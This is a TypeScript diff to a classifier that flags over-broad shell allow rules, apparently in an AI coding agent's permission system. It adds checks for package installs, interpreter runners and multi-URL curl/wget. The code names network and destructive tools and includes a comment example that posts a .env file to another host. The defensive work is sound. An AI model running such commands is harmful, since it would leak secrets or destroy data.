@@ -194,6 +194,31 @@ const INTERPRETERS: Record<string, string[]> = {
 }
 /** Commands that send data anywhere when any argument is allowed. */
 const NETWORK = new Set(['curl', 'wget', 'nc', 'ncat', 'netcat', 'ssh', 'scp', 'sftp', 'rsync', 'ftp', 'telnet'])
+/** Network commands that fetch every URL on their command line. */
+const MULTI_URL = new Set(['curl', 'wget'])
+/** Package managers' install subcommands (one or two words after the command), which run code of the package installed. */
+const INSTALLS: Record<string, string[][]> = {
+  npm: [['install'], ['i'], ['add'], ['install-test'], ['it']],
+  pnpm: [['add'], ['install'], ['i']],
+  yarn: [['add'], ['global', 'add']],
+  bun: [['add'], ['install'], ['i']],
+  pip: [['install']],
+  pip3: [['install']],
+  uv: [['add'], ['pip', 'install']],
+  poetry: [['add']],
+  gem: [['install']],
+  cargo: [['install']]
+}
+
+/**
+ * Whether a rule's fixed prefix (before its trailing wildcard) is a package install: the
+ * command and its install subcommand. Installers take any number of packages, so even a
+ * named one (`npm install lodash:*`) lets the wildcard add others.
+ */
+function installs(cmd: string, rest: string[]): boolean {
+  const forms = INSTALLS[cmd]
+  return forms !== undefined && forms.some((f) => f.length <= rest.length && f.every((w, i) => rest[i]?.toLowerCase() === w))
+}
 /** Commands that destroy or loosen when any argument is allowed. */
 const DESTRUCTIVE = new Set(['rm', 'chmod', 'chown', 'dd', 'shred', 'mkfs'])
 
@@ -244,15 +269,24 @@ export function classifyAllow(rule: string): BroadRule | undefined {
     const words = prefix.split(/\s+/)
     const cmd = (words[0] ?? '').replace(/^.*\//, '')
     const rest = words.slice(1)
+    // A package install runs the package's own code (npm lifecycle scripts, setup.py, extconf.rb, build.rs).
+    if (rest.length >= 1 && installs(cmd, rest)) return { rule, kind: 'code', whole: false }
     if (cmd in INTERPRETERS) {
       if (rest.length === 0) return { rule, kind: 'code', whole: false }
       if (rest.length === 1 && INTERPRETERS[cmd].includes(rest[0].toLowerCase()))
         return { rule, kind: 'code', whole: false }
       if (cmd === 'uv' && rest[0] === 'tool' && rest[1] === 'run' && rest.length === 2)
         return { rule, kind: 'code', whole: false }
+      // A runner handed a bare interpreter (`uv run python*`, `npm exec node:*`): the interpreter takes any code.
+      const inner = (rest[1] ?? '').replace(/^.*\//, '')
+      if (rest.length === 2 && INTERPRETERS[cmd].includes(rest[0].toLowerCase()) && inner in INTERPRETERS && INTERPRETERS[inner].length > 0)
+        return { rule, kind: 'code', whole: false }
       return undefined
     }
     if (NETWORK.has(cmd) && rest.length === 0) return { rule, kind: 'network', whole: false }
+    // curl and wget take any number of URLs: after a fixed first URL the wildcard adds others
+    // (`curl http://localhost:1 https://elsewhere -d @.env`), so the prefix limits nothing.
+    if (MULTI_URL.has(cmd)) return { rule, kind: 'network', whole: false }
     if (DESTRUCTIVE.has(cmd) && rest.every((w) => w.startsWith('-'))) return { rule, kind: 'destructive', whole: false }
     // `git push …` forms, and bare `git` (`Bash(git:*)`, `Bash(git *)`), which allows `git push --force` too.
     if (cmd === 'git' && (rest.length === 0 || (rest[0] === 'push' && rest.slice(1).every((w) => w.startsWith('-'))))) {
